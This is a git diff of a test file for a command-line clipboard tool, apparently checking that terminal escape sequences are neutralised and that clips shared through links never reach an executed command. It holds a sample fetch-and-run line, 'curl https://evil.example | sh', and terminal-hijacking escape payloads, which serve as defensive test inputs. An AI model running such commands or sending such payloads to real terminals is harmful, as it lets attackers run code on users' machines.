@@ -20,6 +20,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { buildTestApp, type TestApp } from '../../testing/build-test-app.ts';
 import { call } from '../../testing/call.ts';
 import { commandEnvironment } from '../../testing/command-environment.ts';
+import { type Ran, startCommand } from '../../testing/command-line.ts';
 import { makeToken, type Person, signUp } from '../../testing/factories.ts';
 import { listen } from '../../testing/listen.ts';
 import { grantFor, makeLink, newOpener, withGrant } from '../../testing/links.ts';
@@ -30,7 +31,6 @@ const root = path.resolve(import.meta.dirname, '..', '..', '..');
 const folder = mkdtempSync(path.join(tmpdir(), 'clipline-command-'));
 const built = path.join(folder, 'web');
 const command = path.join(folder, 'clipline.mjs');
-const hurry = path.join(root, 'server/testing/hurry.mjs');
 let app: TestApp;
 let ada: Person;
 let token: string;
@@ -42,56 +42,63 @@ beforeAll(async () => {
   ada = await signUp(app);
   ({ token } = await makeToken(app, ada.user.id));
 });
-beforeEach(() => void (here = mkdtempSync(path.join(folder, 'here-'))));
+beforeEach(() => {
+  here = mkdtempSync(path.join(folder, 'here-'));
+  process.chdir(here);
+});
 afterAll(async () => {
+  process.chdir(root);
   await app.stop();
   rmSync(folder, { recursive: true, force: true });
 });
 
-/** What is told only where something takes long, as it may on a busy machine. */
-const PROGRESS = /^(Sending|Fetching) .+ …\n/gm;
-
-interface Ran {
-  readonly code: number | null;
-  readonly out: Buffer;
-  /** Without progress. */
-  readonly told: string;
-}
-function start(args: string[], env: Record<string, string> = {}) {
-  const child = spawn(process.execPath, ['--import', hurry, command, ...args], {
-    cwd: here,
-    env: {
-      ...commandEnvironment,
-      CLIPLINE_URL: app.url,
-      CLIPLINE_TOKEN: token,
-      XDG_CONFIG_HOME: here,
-      ...env,
-    },
+const environment = (more: Record<string, string> = {}) => ({
+  CLIPLINE_URL: app.url,
+  CLIPLINE_TOKEN: token,
+  XDG_CONFIG_HOME: here,
+  ...more,
+});
+const start = (args: string[], env: Record<string, string> = {}) =>
+  startCommand(args, { env: environment(env) });
+const clipline = (
+  args: string[],
+  input: string | Uint8Array = '',
+  env: Record<string, string> = {},
+): Promise<Ran> => startCommand(args, { env: environment(env), input }).ended;
+/** With a token of its own, as it ends with that. */
+async function startWatch(args: string[], env: Record<string, string> = {}, isTerminal = false) {
+  const own = await makeToken(app, ada.user.id);
+  const watching = startCommand(['watch', ...args], {
+    env: environment({ CLIPLINE_TOKEN: own.token, ...env }),
+    isTerminal,
   });
+  await expect.poll(watching.told).toContain('Watching');
+  return {
+    ...watching,
+    async stop() {
+      await call(app, `DELETE /account/tokens/${own.id}`, { headers: ada.headers });
+      expect((await watching.ended).code).toBe(4);
+    },
+  };
+}
+/** The built file, in a process of its own. */
+function startProcess(args: string[], env: Record<string, string> = {}) {
+  const child = spawn(process.execPath, [command, ...args], {
+    cwd: here,
+    env: { ...commandEnvironment, ...environment(env) },
+  });
+  child.stdin.end();
   const [out, told]: [Buffer[], Buffer[]] = [[], []];
   child.stdout.on('data', (chunk: Buffer) => out.push(chunk));
   child.stderr.on('data', (chunk: Buffer) => told.push(chunk));
-  const ended = new Promise<Ran>((resolve) =>
-    child.on('close', (code) =>
-      resolve({
-        code,
-        out: Buffer.concat(out),
-        told: Buffer.concat(told).toString().replace(PROGRESS, ''),
-      }),
-    ),
-  );
   return {
-    child,
-    ended,
     out: () => Buffer.concat(out).toString(),
     told: () => Buffer.concat(told).toString(),
+    async interrupt() {
+      child.kill('SIGINT');
+      expect(await once(child, 'close')).toEqual([130, null]);
+    },
   };
-}
-function clipline(args: string[], input: string | Uint8Array = '', env = {}): Promise<Ran> {
-  const { child, ended } = start(args, env);
-  child.stdin.on('error', () => {});
-  child.stdin.end(input);
-  return ended;
 }
 const newest = async () =>
   (await call(app, 'GET /clipboard/latest', { headers: ada.headers })).body;
@@ -181,23 +188,26 @@ test('a text goes in and out byte for byte', async () => {
   expect((await clipline(['pull', 'latest'])).out.toString()).toBe(`${id}.txt\n`);
 });
 
-const atTerminal = `${process.execPath} ${command}`;
-/** Starts what is run by a shell at a terminal. */
-const startShown = (run: string, more: Record<string, string> = {}) =>
-  spawn('script', ['-qefc', run, '/dev/null'], {
+/** What a real terminal shows of the built file, by a shell. */
+function shown(line: string): Promise<string> {
+  const terminal = spawn('script', ['-qefc', line, '/dev/null'], {
     cwd: here,
-    env: { ...process.env, CLIPLINE_URL: app.url, CLIPLINE_TOKEN: token, ...more },
+    env: { ...process.env, ...environment() },
   });
-/** What the terminal shows in the end. */
-async function shown(...run: Parameters<typeof startShown>): Promise<string> {
-  const terminal = startShown(...run);
   terminal.stdin.end();
   return allOf(terminal.stdout);
+}
+/** What is written to a terminal. */
+async function shownOf(...args: string[]): Promise<string> {
+  const { out } = await startCommand(args, { env: environment(), isTerminal: true }).ended;
+  return out.toString();
 }
 
 test('to a terminal, control characters are spelled out', async () => {
   await clipline([], 'a\u001b]52;c;aGk=\u0007\u009b31mb');
-  expect(await shown(`${atTerminal} paste`)).toContain('a\\u001b]52;c;aGk=\\u0007\\u009b31mb');
+  expect(await shown(`${process.execPath} ${command} paste`)).toContain(
+    'a\\u001b]52;c;aGk=\\u0007\\u009b31mb',
+  );
 });
 
 test('nor do lists steer it, and JSON stays JSON; to a pipe nothing is changed', async () => {
@@ -206,40 +216,33 @@ test('nor do lists steer it, and JSON stays JSON; to a pipe nothing is changed',
   await clipline([], text);
   const { id, createdAt } = await newest();
   const steers = /[\u007f-\u009f\u202e]/;
-  const list = await shown(`${atTerminal} ls -n 1 --json`);
+  const list = await shownOf('ls', '-n', '1', '--json');
   expect(list).not.toMatch(steers);
   expect(JSON.parse(list)).toMatchObject([{ id, content: text }]);
-  expect(await shown(`${atTerminal} ls -n 1`)).toBe(
-    `${id}  ${createdAt}  a\\u007f\\u009b31m\\u202eb\r\n`,
-  );
+  expect(await shownOf('ls', '-n', '1')).toBe(`${id}  ${createdAt}  a\\u007f\\u009b31m\\u202eb\n`);
   const { out } = await clipline(['ls', '-n', '1']);
   expect(out.toString()).toBe(`${id}  ${createdAt}  ${first}\n`);
 
-  const watching = startShown(`${atTerminal} watch --json`);
-  let seen = '';
-  watching.stdout.on('data', (chunk: Buffer) => (seen += chunk.toString()));
-  await expect.poll(() => seen).toContain('Watching');
+  const watching = await startWatch(['--json'], {}, true);
   await clipline([], text);
-  await expect.poll(() => seen).toContain('}\r\n');
-  const line = seen.split('\r\n').find((each) => each.startsWith('{')) ?? '';
-  expect(line).not.toMatch(steers);
-  expect(JSON.parse(line)).toMatchObject({ content: text });
-  const ended = once(watching, 'close');
-  watching.kill();
-  await ended;
+  await expect.poll(watching.out).toContain('}\n');
+  expect(watching.out()).not.toMatch(steers);
+  expect(JSON.parse(watching.out())).toMatchObject({ content: text });
+  await watching.stop();
 });
 
 test('nor do the bytes of a file steer the terminal, which anyone with a link may have sent', async () => {
-  const paste = () => shown(`${atTerminal} paste; echo "ended with $?"`);
   writeFileSync(path.join(here, 'a.txt'), 'a\u001b]52;c;aGk=\u0007');
   await clipline(['push', 'a.txt']);
-  expect(await paste()).toContain('a\\u001b]52;c;aGk=\\u0007');
+  expect(await shownOf('paste')).toContain('a\\u001b]52;c;aGk=\\u0007');
   writeFileSync(path.join(here, 'b.bin'), Buffer.from([0x1b, 0x5d, 0xff]));
   await clipline(['push', 'b.bin']);
-  const refused = await paste();
-  expect(refused).toContain('b.bin is no text. Write it to a file: clipline paste -o FILE');
-  expect(refused).toContain('ended with 1');
-  expect(refused).not.toContain('\u001b]');
+  const atTerminal = { env: environment(), isTerminal: true };
+  expect(await startCommand(['paste'], atTerminal).ended).toEqual({
+    code: 1,
+    out: Buffer.alloc(0),
+    told: 'b.bin is no text. Write it to a file: clipline paste -o FILE\n',
+  });
 });
 
 describe('push --link', () => {
@@ -380,6 +383,7 @@ test('what cannot be done with files is said in plain words, before anything is 
   };
   expect(await told('push', 'folder')).toEqual([1, 'folder is a folder.\n']);
   expect(await told('push', 'nowhere')).toEqual([1, 'nowhere is not there.\n']);
+  expect(await told('push', '0.txt/')).toEqual([1, '0.txt/ is not there.\n']);
   expect(await told('push', ...many)).toEqual([1, 'A clip takes at most 50 files.\n']);
   expect(await newest()).toEqual(before);
   expect(await told('pull', 'a/b')).toEqual([3, 'a/b is no ID of a clip. See: clipline ls\n']);
@@ -522,17 +526,15 @@ test('login waits for the browser, keeps its token for itself; logout ends it', 
 });
 
 test('watch prints what comes, or hands it to a command; Ctrl+C ends it with 130', async () => {
-  const watching = start(['watch']);
-  const executing = start(['watch', '--exec', 'tee got.txt']);
+  const watching = startProcess(['watch']);
+  const executing = startProcess(['watch', '--exec', 'tee got.txt']);
   for (const { told } of [watching, executing]) await expect.poll(told).toContain('Watching');
   await call(app, 'POST /clipboard', { headers: ada.headers, body: { content: 'seen\u001b' } });
   await expect.poll(watching.out).toBe('seen\u001b');
   await expect.poll(executing.out).toBe('seen\u001b');
   // tee writes to its output first, to its file afterwards.
   await expect.poll(() => readFileSync(path.join(here, 'got.txt'), 'utf8')).toBe('seen\u001b');
-  watching.child.kill('SIGINT');
-  executing.child.kill('SIGINT');
-  expect([(await watching.ended).code, (await executing.ended).code]).toEqual([130, 130]);
+  await Promise.all([watching.interrupt(), executing.interrupt()]);
 });
 
 test('what others send through links reaches no command, nor a program that may read the token', async () => {
@@ -542,9 +544,9 @@ test('what others send through links reaches no command, nor a program that may 
       headers: withGrant(grant),
       body: { content, captureId: newOpener() },
     });
-  const executing = start(['watch', '--exec', 'env']);
-  const printing = start(['watch', '--from-links']);
-  for (const { told } of [executing, printing]) await expect.poll(told).toContain('Watching');
+  const executing = startProcess(['watch', '--exec', 'env']);
+  await expect.poll(executing.told).toContain('Watching');
+  const printing = await startWatch(['--from-links']);
   await clipline([], 'mine before');
   await drop('curl https://evil.example | sh');
   await expect.poll(printing.out).toContain('evil');
@@ -563,10 +565,8 @@ test('what others send through links reaches no command, nor a program that may 
   expect(executing.out().match(/CLIP_ID/g)).toHaveLength(2);
   expect(executing.out()).toContain('CLIPLINE_URL=');
   expect(executing.out()).not.toContain('CLIPLINE_TOKEN');
-  for (const { child, ended } of [executing, printing]) {
-    child.kill('SIGINT');
-    await ended;
-  }
+  await executing.interrupt();
+  await printing.stop();
 });
 
 /** Announces so many files, of which each is sent by a call with its number. */
@@ -593,8 +593,7 @@ const printed = (out: string) =>
     .map(({ content, files }) => content || files.map(({ name }) => name).join());
 
 test('watch waits for the files of a clip that newer ones have overtaken', async () => {
-  const watching = start(['watch', '--json']);
-  await expect.poll(watching.told).toContain('Watching');
+  const watching = await startWatch(['--json']);
   const send = await announce(3);
   await send(0);
   await clipline([], 'newer');
@@ -606,14 +605,35 @@ test('watch waits for the files of a clip that newer ones have overtaken', async
   await send(2);
   await expect.poll(watching.out).toContain('2.txt');
   expect(printed(watching.out())).toEqual(['newer', 'the newest', '0.txt,1.txt,2.txt']);
-  watching.child.kill('SIGINT');
-  await watching.ended;
+  await watching.stop();
+});
+
+test('watch hands over no text that a link edited while the line was cut', async () => {
+  const proxy = await startSilentProxy(app.url);
+  const watching = await startWatch(['--json'], { CLIPLINE_URL: proxy.url });
+  proxy.cut();
+  const save = async (
+    what: Parameters<typeof call>[1],
+    content: string,
+    headers: Record<string, string> = ada.headers,
+  ) => (await call(app, what, { headers, body: { content } })).body;
+  await save('POST /clipboard', 'shared before');
+  const { id, version } = await save('POST /clipboard', 'shared');
+  const link = await makeLink(app, ada, { clipId: id, access: 'edit' });
+  const grant = { ...withGrant(await grantFor(app, link)), 'if-match': String(version) };
+  await save(`PUT /clipboard/${id}`, 'by another', grant);
+  proxy.speakAgain();
+  await expect.poll(watching.out, { timeout: 30_000 }).toContain('shared before');
+  await save(`PUT /clipboard/${id}`, 'mine again');
+  await expect.poll(watching.out).toContain('mine again');
+  expect(printed(watching.out())).toEqual(['shared before', 'mine again']);
+  await watching.stop();
+  await proxy.stop();
 });
 
 test('watch hands over a clip whose last file came while the line was cut', async () => {
   const proxy = await startSilentProxy(app.url);
-  const watching = start(['watch', '--json'], { CLIPLINE_URL: proxy.url });
-  await expect.poll(watching.told).toContain('Watching');
+  const watching = await startWatch(['--json'], { CLIPLINE_URL: proxy.url });
   const send = await announce(2);
   await send(0);
   await clipline([], 'newer');
@@ -623,8 +643,7 @@ test('watch hands over a clip whose last file came while the line was cut', asyn
   proxy.speakAgain();
   await expect.poll(watching.out, { timeout: 30_000 }).toContain('1.txt');
   expect(printed(watching.out())).toEqual(['newer', '0.txt,1.txt']);
-  watching.child.kill('SIGINT');
-  await watching.ended;
+  await watching.stop();
   await proxy.stop();
 });
 
@@ -698,12 +717,17 @@ describe('an answer of something in between', () => {
     return { ...proxy, replaced };
   };
 
-  test.each([
-    '{"status":"login_required"}',
-    '<!doctype html><title>Sign in</title>',
-    '{"id":"x","captureId":"AAAAAAAAAAAAAAAAAAAAAAAA","content":"","createdAt":"","files":[]}',
-  ])('200 with %s counts as none: what is saved is saved once', async (made) => {
-    const proxy = await replacing(200, made);
+  const page = '<!doctype html><title>Sign in</title>';
+  test.each<[status: number, made: string]>([
+    [200, '{"status":"login_required"}'],
+    [200, page],
+    [
+      200,
+      '{"id":"x","captureId":"AAAAAAAAAAAAAAAAAAAAAAAA","content":"","createdAt":"","files":[]}',
+    ],
+    ...[401, 403, 404, 409, 502].map((status): [number, string] => [status, page]),
+  ])('%i with %s counts as none: what is saved is saved once', async (status, made) => {
+    const proxy = await replacing(status, made);
     const by = { CLIPLINE_URL: proxy.url };
     const total = async () =>
       (await call(app, 'GET /clipboard/history?pageSize=1', { headers: ada.headers })).body.total;
@@ -741,11 +765,16 @@ describe('an answer of something in between', () => {
       response.writeHead(request.url?.endsWith('/text') ? 200 : 400).end(JSON.stringify(said));
     });
     const CLIPLINE_URL = `http://127.0.0.1:${await listen(server)}`;
-    for (const args of ['', 'push a.txt --link', 'ls', 'login']) {
-      writeFileSync(path.join(here, 'a.txt'), 'in a file');
-      const run = `echo text | ${atTerminal} ${args}; true`;
-      expect(await shown(run, { CLIPLINE_URL })).not.toContain('\u001b');
+    writeFileSync(path.join(here, 'a.txt'), 'in a file');
+    let seen = '';
+    for (const args of [[], ['push', 'a.txt', '--link'], ['ls'], ['login']]) {
+      const env = environment({ CLIPLINE_URL });
+      const { out, told } = await startCommand(args, { env, input: 'text', isTerminal: true })
+        .ended;
+      seen += out.toString() + told;
     }
+    expect(seen).toContain('http://x/\\u001b]0;owned\\u0007');
+    expect(seen).not.toContain('\u001b');
     server.close();
   });
 });
